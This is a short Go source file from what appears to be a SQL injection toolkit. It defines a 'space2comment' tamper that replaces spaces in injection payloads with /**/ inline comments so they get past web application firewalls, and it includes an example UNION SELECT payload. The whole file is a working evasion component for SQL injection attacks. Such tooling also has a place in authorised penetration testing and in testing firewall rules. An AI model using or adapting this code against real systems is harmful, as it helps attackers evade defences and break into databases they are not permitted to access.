package tamper

import "strings"

// space2commentTamper replaces each space character with a SQL inline comment
// /**/ to bypass WAFs that block whitespace in SQL injection payloads.
//
// Example:
//
//	" UNION SELECT NULL-- -" → "/**/UNION/**/SELECT/**/NULL--/**/-"
type space2commentTamper struct{}

func (t *space2commentTamper) Name() string       { return "space2comment" }
func (t *space2commentTamper) Stage() Stage       { return StageExtraction }
func (t *space2commentTamper) Priority() int      { return 30 }
func (t *space2commentTamper) AppliesTo() []string { return nil }

func (t *space2commentTamper) Apply(s string, _ Context) Result {
	out := strings.ReplaceAll(s, " ", "/**/")
	if out == s {
		return Result{Payload: s, Confidence: 1.0}
	}
	return Result{Payload: out, Applied: []string{t.Name()}, Confidence: 0.85}
}
